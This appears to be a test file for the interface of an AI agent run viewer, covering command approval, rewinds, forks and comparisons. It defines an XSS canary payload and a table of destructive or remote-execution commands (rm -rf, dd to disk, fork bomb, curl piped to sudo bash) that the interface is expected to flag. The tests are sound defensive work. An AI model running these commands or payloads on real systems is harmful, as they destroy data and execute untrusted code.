@@ -1,0 +1,467 @@
+// Calls that wait, rewinds, forks, earlier files and comparisons: what they send; a hostile record stays text.
+import assert from 'node:assert/strict';
+import { afterEach, test } from 'node:test';
+import { fill, lsn, place, until, within } from './dom.mjs';
+import { bundle, chained, event, started, step } from './runs.mjs';
+
+/** The canary: elements of it are there wherever it is parsed as HTML. */
+const EVIL = "<img src=x onerror='window.hit=1'><script>window.hit=1</script>\u202e";
+/** As it is shown: a mark that turns the text around is written out. */
+const SHOWN = EVIL.replace('\u202e', '\\u202e');
+const PROTECTION = { isolation: 'docker', protects: 'Your files.', does_not_protect: 'The network.' };
+const text = words => new TextEncoder().encode(words);
+let done = [];
+
+const sends = (...names) =>
+  Object.fromEntries(
+    names.map(name => [
+      name,
+      async (...given) => {
+        done.push([name, ...given]);
+        return EVIL;
+      }
+    ])
+  );
+
+const made =
+  (name, result) =>
+  async (...given) => {
+    done.push([name, ...given]);
+    return result;
+  };
+
+const HISTORY = {
+  files: async (checkpoint, path) => ({
+    ...{ path: path || '/testbed', base: false, total: 9 },
+    files: [
+      { path: `/testbed/${EVIL}`, kind: 'directory', size: 0 },
+      { path: '/testbed/l', kind: 'link', size: 1, target: EVIL },
+      { path: `/testbed/a${EVIL}`, kind: 'file', size: 5 },
+      { path: '/testbed/notes', kind: 'file', size: 5 }
+    ]
+  }),
+  read: async checkpoint => text(`${checkpoint} ${EVIL}`),
+  changes: async () => ({
+    ...{ total: 2, incomplete: EVIL },
+    changes: [
+      { path: `/${EVIL}`, kind: 'modified', size: 1 },
+      { path: '/x', kind: EVIL, size: 1, others: true }
+    ]
+  }),
+  diff: async (from, to) => ({ diff: `--- a\n+++ b\n-${EVIL}\n+${from} to ${to}\n`, note: EVIL })
+};
+
+/** Five steps, back to step 4, and a new call that is held; every text is hostile. */
+function rewoundRun(at = 'call') {
+  const kept = number =>
+    event('checkpoint', { step: number, checkpoint: `c${number}`, files: 0, size: 0, duration: 0, incomplete: '' });
+  const events = [
+    started(EVIL),
+    event('sandbox.ready', { sandbox_id: 's', protection: PROTECTION, start_time: 0.2, root: null }),
+    event('message', { message: { role: EVIL, content: EVIL } }),
+    kept(0)
+  ];
+  for (let number = 1; number <= 5; number++) {
+    events.push(...step(number, EVIL, EVIL), kept(number));
+  }
+  const back = events.find(one => one.checkpoint === 'c4').id;
+  const rewind = { to: back, step: 4, what: 'both', target: 'c4', safety: 'c5' };
+  events.push(event('rewind.started', rewind), event('rewound', { ...rewind, undo_of: null }));
+  events.push({ ...event('forked', { run_id: EVIL, folder: EVIL, step: 2, checkpoint: null }), parent: back });
+  const again = step(5, EVIL, EVIL);
+  const proposed = again.find(one => one.kind === 'call.proposed');
+  Object.assign(proposed, { tool: EVIL, arguments: { command: EVIL, [EVIL]: [1] } });
+  events.push(...(at === 'call' ? again.slice(0, 3) : again));
+  events.push(event('call.held', { step: 5, call_id: 'call_5', at, reason: 'breakpoint', text: EVIL }));
+  events.push(event('control', { action: 'paused', text: null, source: '' }));
+  return chained(events);
+}
+
+function show(events, server = true) {
+  done = [];
+  const options = {
+    controls: sends('stop', 'pause', 'resume', 'say'),
+    decisions: sends('continue', 'step', 'edit', 'skip', 'observe', 'change'),
+    timeTravel: { ...sends('rewind', 'undo'), fork: made('fork', { folder: EVIL }), resume: made('resume') },
+    linkRun: (link, folder) => link.setAttribute('href', `#${encodeURIComponent(folder)}`),
+    history: HISTORY
+  };
+  const { view } = lsn.show(bundle(events), server ? options : {});
+  view.setLive(server);
+  view.flush();
+  return within(place.querySelector('.lsn-stop-panel') ?? place);
+}
+
+const all = selector => [...place.querySelectorAll(selector)];
+const timeline = () => within(within(place).getByRole('navigation', { name: 'Timeline' }));
+/** A click on a bar of the timeline. */
+const press = bar => bar.dispatchEvent(new window.MouseEvent('click', { bubbles: true }));
+const button = (scope, name) => until(() => scope.getByRole('button', { name }));
+
+/** What would run a script. */
+const live = node =>
+  [...node.querySelectorAll('*')].filter(
+    one => one.localName === 'script' || [...one.attributes].some(({ name }) => name.startsWith('on'))
+  );
+
+afterEach(() => assert.deepEqual(live(place), [], 'something was parsed as HTML'));
+
+test('the canary is seen when it is parsed', () => {
+  const bare = document.createElement('div');
+  bare.innerHTML = EVIL;
+  assert.equal(live(bare).length, 2);
+});
+
+test('an edited call has all arguments and broken JSON is said', async () => {
+  const panel = show(rewoundRun());
+  panel.getByRole('button', { name: 'Edit…' }).click();
+  const fields = all('.lsn-stop-panel .lsn-arguments textarea');
+  assert.equal(fields[0].value, EVIL);
+  fill(fields.at(-1), '[1, ');
+  panel.getByRole('button', { name: 'Run edited' }).click();
+  await until(() => panel.getByText(/has to be JSON/));
+  fill(fields.at(-1), '[1, 2]');
+  fill(fields[0], 'ls');
+  panel.getByRole('button', { name: 'Run edited' }).click();
+  assert.deepEqual(done, [['edit', 'call_5', { command: 'ls', [EVIL]: [1, 2] }]]);
+});
+
+test('messages, settings and a denial with its reason', async () => {
+  const panel = show(rewoundRun());
+  const box = all('.lsn-messages-box').at(-1);
+  box.open = true;
+  box.dispatchEvent(new Event('toggle'));
+  await until(() => all('.lsn-messages li').length === 1 + 4 * 2 + 1);
+  fill(panel.getByLabelText('Model'), 'openai/other');
+  fill(panel.getByLabelText(/Temperature/), '0.2');
+  fill(panel.getByLabelText(/Most steps/), '7');
+  panel.getByRole('button', { name: 'Apply' }).click();
+  await until(() => done.length === 1);
+  panel.getByRole('button', { name: 'Deny…' }).click();
+  fill(panel.getByLabelText(/the model reads it/), 'No.');
+  (await button(panel, 'Deny')).click();
+  const changed = { model: 'openai/other', settings: { temperature: 0.2 }, limits: { steps: 7 } };
+  assert.deepEqual(done, [
+    ['change', changed],
+    ['skip', 'call_5', 'No.']
+  ]);
+});
+
+test('an observation is edited', () => {
+  const panel = show(rewoundRun('observation'));
+  const field = panel.getByLabelText('Result');
+  assert.equal(field.value, EVIL);
+  fill(field, 'as a person has it');
+  panel.getByRole('button', { name: 'Use the edited result' }).click();
+  assert.deepEqual(done, [['observe', 'call_5', 'as a person has it']]);
+});
+
+/** A command that waits for an approval, after a step that made files. */
+function waiting(command, protection = { ...PROTECTION, network: 'none' }) {
+  const first = step(1);
+  first.at(-1).changes = [{ path: '/testbed/notes.txt', kind: 'added', size: 1, diff: null, note: '' }];
+  const next = step(2).slice(0, 3);
+  next[2].arguments = { command };
+  const events = [
+    started('Tidy up.'),
+    event('sandbox.ready', { sandbox_id: 's', protection, start_time: 0.2, root: '/testbed' }),
+    ...first,
+    event('checkpoint', { step: 1, checkpoint: 'c1', files: 0, size: 0, duration: 0, incomplete: '' }),
+    ...next,
+    event('call.held', { step: 2, call_id: 'call_2', at: 'call', reason: 'approval', text: '' })
+  ];
+  return show(chained(events));
+}
+
+test('what a command may destroy is marked and said, before it is approved', async () => {
+  const panel = waiting('rm -rf logs/ && ls');
+  assert.equal(place.querySelector('.lsn-header .lsn-badge').textContent, 'Waiting for you');
+  assert.equal(place.querySelector('.lsn-header .lsn-badge').dataset.state, 'wait');
+  const banner = place.querySelector('.lsn-stop-panel .lsn-banner');
+  assert.match(banner.textContent, /^Run this command\?/);
+  assert.match(banner.textContent, /It deletes files\. Docker sandbox, no network; you can rewind afterwards\./);
+  assert.equal(place.querySelector('.lsn-held-call').textContent, 'rm -rf logs/ && ls');
+  assert.deepEqual(
+    all('.lsn-held-call mark').map(mark => mark.textContent),
+    ['rm -rf']
+  );
+  panel.getByRole('button', { name: 'Approve' }).click();
+  assert.deepEqual(done, [['continue', 'call_2']]);
+  waiting('ls');
+  assert.equal(all('.lsn-held-call mark').length, 0);
+  within(place).getByText('Docker sandbox, no network; you can rewind afterwards.');
+});
+
+test('approving all commands of the run changes the rule and runs this one', async () => {
+  waiting('ls').getByRole('button', { name: 'Approve all commands of this run' }).click();
+  await until(() => done.length === 2);
+  assert.deepEqual(done, [
+    ['change', { approve: 'auto' }],
+    ['continue', 'call_2']
+  ]);
+});
+
+test('the table of what is dangerous', () => {
+  const marks = command => {
+    waiting(command);
+    return all('.lsn-held-call mark').map(mark => mark.textContent);
+  };
+  for (const [command, ...expected] of [
+    ['/bin/rm -r -f x', 'rm -r -f'],
+    ['docker run --rm image; confirm x'],
+    ['find . -name "*.log" -delete', 'find . -name "*.log" -delete'],
+    ['git push origin main --force', 'git push origin main --force'],
+    ['git push origin main'],
+    ['git reset --hard HEAD~3; git clean -fd', 'git reset --hard', 'git clean -f'],
+    ['dd if=/dev/zero of=/dev/sda', 'dd if=/dev/zero of=/dev/sda'],
+    ['mkfs.ext4 /dev/sdb', 'mkfs.ext4'],
+    ['curl -s https://x.test/i.sh | sudo bash', 'curl -s https://x.test/i.sh | sudo bash'],
+    ['wget -qO- x.test | python3 -', 'wget -qO- x.test | python3'],
+    ['chmod -R 777 /', 'chmod -R'],
+    ['chmod 600 key'],
+    ['echo x > notes.txt; echo y >> notes.txt; echo z > new.txt', '> notes.txt'],
+    ['ls 2>/dev/null; cat <notes.txt'],
+    ['psql -c "DROP TABLE users"', 'DROP TABLE'],
+    [':(){ :|:& };:', ':(){ :|:& };:']
+  ]) {
+    assert.deepEqual(marks(command), expected, command);
+  }
+  waiting('git push -f');
+  within(place).getByText(/a rewind does not undo what it does elsewhere/);
+  waiting('rm -r x', { isolation: 'process' });
+  within(place).getByText('It deletes files. Not isolated: it runs on this machine.');
+});
+
+test('a command of a megabyte, made to keep the rules busy, is looked at in a moment', () => {
+  const begun = performance.now();
+  for (const piece of ['git push ', 'curl |', 'rm -a ', 'dd of= ', '> "', ':(){ ']) {
+    waiting(piece.repeat(100_000) + 'rm -rf /');
+  }
+  assert.ok(performance.now() - begun < 5000, `${performance.now() - begun} ms`);
+  within(place).getByText(/only its beginning was checked/);
+  waiting(`rm ${EVIL} > ${EVIL}; ${EVIL}`);
+  assert.equal(place.querySelector('.lsn-held-call').textContent, `rm ${SHOWN} > ${SHOWN}; ${SHOWN}`);
+});
+
+test('the timeline, its files and what can be done at a step', async () => {
+  show(rewoundRun());
+  const row = within(timeline().getByRole('group', { name: 'Steps of this attempt' })).getAllByRole('option');
+  assert.equal(row.length, 6);
+  const left = timeline().getByRole('group', { name: 'Earlier attempt after step 4' });
+  assert.equal(within(left).getAllByRole('option').length, 1);
+  timeline().getByText(/Fork of step 2/);
+  press(row[3]);
+  const panel = within(place.querySelector('.lsn-history'));
+  assert.equal(place.querySelector('.lsn-history h3').textContent, 'Step 3');
+  (await button(panel, 'Files')).click();
+  (await button(panel, /notes/)).click();
+  await until(() => /^c3 <img/.test(place.querySelector('.lsn-old-file pre').textContent));
+  (await button(panel, 'Changes')).click();
+  fill(await until(() => panel.getByLabelText('Compare with')), '1');
+  const change = await until(() => place.querySelector('.lsn-history details:has(summary)'));
+  change.open = true;
+  change.dispatchEvent(new Event('toggle'));
+  await until(() => place.querySelector('.lsn-history .lsn-diff-added .lsn-diff-text').textContent === 'c1 to c3');
+  (await button(panel, 'Undo the last rewind')).click();
+  await until(() => done.length === 1);
+  assert.deepEqual(done, [['undo', false]]);
+});
+
+test('a rewind says what it undoes of this run and of others, before it is done', async () => {
+  show(rewoundRun());
+  within(place).getByRole('button', { name: 'Rewind to the end of step 3' }).click();
+  const panel = within(place.querySelector('.lsn-history'));
+  panel.getByText('Rewind to the end of step 3?');
+  await until(() => panel.getByText(/^Undoes 2 steps, restores 1 file\. You can undo this\./));
+  panel.getByText(/1 more file was changed since by another run or by you\. Rewinding undoes this too:/);
+  panel.getByText('/x');
+  fill(panel.getByLabelText('What to rewind'), 'files');
+  await until(() => panel.getByText(/^Restores 1 file\. You can undo this\./));
+  fill(panel.getByLabelText('What to rewind'), 'conversation');
+  await until(() => panel.getByText(/^Undoes 2 steps; the files stay as they are\./));
+  fill(panel.getByLabelText('What to rewind'), 'both');
+  (await until(() => panel.getByRole('button', { name: 'Rewind, and undo these too' }))).click();
+  await until(() => done.length === 1);
+  assert.deepEqual(done, [['rewind', 3, 'both', true]]);
+});
+
+test('a fork is created by its button, and offers to open and to continue it', async () => {
+  show(rewoundRun());
+  within(place)
+    .getByRole('button', { name: /^Fork: a second run from step 3/ })
+    .click();
+  const panel = within(place.querySelector('.lsn-history'));
+  await until(() => panel.getByText('Fork created.'));
+  assert.equal(panel.getByText('Open').getAttribute('href'), `#${encodeURIComponent(EVIL)}`);
+  panel.getByRole('button', { name: 'Continue' }).click();
+  assert.deepEqual(done, [
+    ['fork', 3],
+    ['resume', { run: EVIL }]
+  ]);
+});
+
+test('files and link by their buttons; a link leads to its step', async () => {
+  show(rewoundRun());
+  within(place).getByRole('button', { name: 'Files at step 2' }).click();
+  await until(() => within(place.querySelector('.lsn-history')).getByRole('button', { name: /notes/ }));
+  within(place).getByRole('button', { name: 'Link to step 2' }).click();
+  const link = within(place.querySelector('.lsn-history')).getByLabelText('Link').value;
+  assert.match(link, /#lsn-run=r1&step=2$/);
+  window.location.hash = link.slice(link.indexOf('#'));
+  show(rewoundRun());
+  assert.equal(place.querySelector('.lsn-current').dataset.step, '2');
+  window.location.hash = '';
+});
+
+/** Three steps, back to step 1, and nothing since. */
+function readyRun(more = {}) {
+  const events = [
+    started(EVIL),
+    ...step(1, EVIL),
+    ...step(2, EVIL, EVIL),
+    ...step(3),
+    event('run.finished', {
+      stop_reason: 'submitted',
+      answer: '9 ' + EVIL,
+      error: null,
+      usage: {},
+      steps: 3,
+      wall_time: 1
+    })
+  ];
+  const back = events.find(one => one.kind === 'call.finished').id;
+  const rewind = { to: back, step: 1, what: 'both', target: 'c1', safety: 'c3', undo_of: null, restored: 1, ...more };
+  events.push(event('rewind.started', rewind), event('rewound', rewind));
+  return chained(events);
+}
+
+function showReady(events, options = {}) {
+  done = [];
+  const timeTravel = { ...sends('rewind', 'undo'), fork: made('fork', null), resume: made('resume') };
+  lsn.show(bundle(events), { timeTravel, ...options });
+  return within(place.querySelector('.lsn-ready'));
+}
+
+test('after a rewind the run is ready to continue, in four ways', async () => {
+  const ready = showReady(readyRun());
+  const badge = place.querySelector('.lsn-header .lsn-badge');
+  assert.deepEqual([badge.textContent, badge.dataset.state], ['Ready to continue from step 1', 'live']);
+  ready.getByText('Steps 2 to 3 are kept as an earlier attempt. 1 file was restored.');
+  ready.getByRole('button', { name: 'Continue' }).click();
+  await until(() => done.length === 1);
+  await until(() => !place.querySelector('.lsn-ready').hasAttribute('aria-busy'));
+  ready.getByRole('button', { name: 'Say and continue…' }).click();
+  fill(ready.getByLabelText('Say something to the model'), `  ${EVIL}  `);
+  ready.getByRole('button', { name: 'Say and continue' }).click();
+  await until(() => done.length === 2);
+  await until(() => !place.querySelector('.lsn-ready').hasAttribute('aria-busy'));
+  ready.getByRole('button', { name: 'Edit next call…' }).click();
+  fill(ready.getByLabelText('Argument command'), 'echo other');
+  ready.getByRole('button', { name: 'Run the edited call and continue' }).click();
+  await until(() => done.length === 3);
+  await until(() => !place.querySelector('.lsn-ready').hasAttribute('aria-busy'));
+  ready.getByRole('button', { name: 'Undo' }).click();
+  await until(() => done.length === 4);
+  assert.deepEqual(done, [
+    ['resume', {}],
+    ['resume', { say: EVIL }],
+    ['resume', { edit: { command: 'echo other' } }],
+    ['undo', false]
+  ]);
+});
+
+test('a rewind of one step, of the conversation, and a run without a kernel', () => {
+  const one = readyRun({ what: 'conversation', restored: 0 });
+  showReady(one).getByText('Steps 2 to 3 are kept as an earlier attempt. The files stayed as they were.');
+  const ready = showReady(readyRun({ restored: 4 }), { timeTravel: undefined });
+  ready.getByText('Steps 2 to 3 are kept as an earlier attempt. 4 files were restored.');
+  assert.equal(ready.queryAllByRole('button').length, 0);
+  lsn.show(bundle([started('x'), ...step(1)]));
+  assert.equal(place.querySelector('.lsn-ready').hidden, true);
+});
+
+test('what fails is said where it was asked', async () => {
+  const resume = async () => {
+    throw new Error(EVIL);
+  };
+  const ready = showReady(readyRun(), { timeTravel: { resume, undo: resume } });
+  ready.getByRole('button', { name: 'Continue' }).click();
+  await until(() => ready.getByText(SHOWN));
+  assert.equal(ready.getByRole('button', { name: 'Continue' }).disabled, false);
+});
+
+/** The same, and another second step by a person's hand. */
+function comparedRun() {
+  const events = readyRun();
+  const back = events.find(one => one.kind === 'call.finished').id;
+  const again = step(2, EVIL, '148.6 million');
+  again[0].parent = back;
+  again[3].arguments = { command: "awk '$5 > 25' c.csv" };
+  again.splice(
+    3,
+    0,
+    event('call.decided', {
+      step: 2,
+      call_id: 'call_2',
+      action: 'edit',
+      tool: 'execute_bash',
+      arguments: { command: "awk '$5 > 25' c.csv" },
+      observation: null,
+      original: null,
+      source: EVIL
+    })
+  );
+  const end = { stop_reason: 'submitted', answer: '148.6 ' + EVIL, error: null, usage: {}, steps: 2, wall_time: 1 };
+  events.find(one => one.kind === 'call.started' && one.step === 2).arguments = { command: "awk '$5 < 25' c.csv" };
+  return chained([...events, ...again, event('run.finished', end)]);
+}
+
+test('a comparison has the answers first, folds what is the same, and marks what differs', async () => {
+  lsn.show(bundle(comparedRun()));
+  within(place).getByRole('button', { name: 'Compare attempts' }).click();
+  const table = place.querySelector('.lsn-comparison');
+  const [, before, now] = table.tHead.rows[0].cells;
+  assert.match(before.textContent, /^Earlier attempt · answer 9 /);
+  assert.match(now.textContent, /^This attempt · answer 148\.6 /);
+  assert.deepEqual(
+    [...table.tHead.querySelectorAll('mark')].map(mark => mark.textContent),
+    ['9', '148.6']
+  );
+  const rows = [...table.tBodies[0].rows];
+  assert.equal(rows[0].textContent, '11 step is the same');
+  assert.match(rows[1].textContent, /edited by you/);
+  assert.deepEqual(
+    [...rows[1].querySelectorAll('.lsn-code mark')].map(mark => mark.textContent),
+    ['<', '>']
+  );
+  assert.match(rows[2].textContent, /no such step/);
+  assert.match(rows[3].textContent, /^All/);
+  within(place).getByRole('button', { name: 'Compare attempts' }).click();
+  assert.equal(place.querySelector('.lsn-comparison'), null);
+});
+
+test('a changed call says who changed it and shows the original', () => {
+  lsn.show(bundle(comparedRun()));
+  const line = place.querySelector('.lsn-step[data-step="2"]');
+  if (line.querySelector('.lsn-step-head').getAttribute('aria-expanded') === 'false') {
+    line.querySelector('.lsn-step-head').click();
+  }
+  const summary = line.querySelector('.lsn-decisions summary');
+  assert.equal(summary.textContent, 'Edited by you; show original');
+});
+
+test('without a server the timeline is for reading', async () => {
+  show(rewoundRun(), false);
+  const left = timeline().getByRole('group', { name: 'Earlier attempt after step 4' });
+  press(within(left).getByRole('option'));
+  const panel = within(place.querySelector('.lsn-history'));
+  await until(() => place.querySelector('.lsn-history .lsn-code').textContent === 'echo 5');
+  (await button(panel, 'Compare attempts')).click();
+  await until(() => place.querySelector('.lsn-history caption').textContent === 'They part at step 5.');
+  assert.equal(all('.lsn-history tbody tr').length, 3);
+  assert.ok(all('.lsn-divergence td').at(-1).textContent.includes(EVIL.slice(0, 30)));
+  press(timeline().getByRole('option', { name: /^Step 2/ }));
+  await until(() => within(place).getByText(/can be read while the Jupyter server knows the run/));
+  assert.equal(within(place).queryByRole('button', { name: /^Rewind/ }), null);
+  assert.equal(all('.lsn-stop-panel').length, 0);
+});
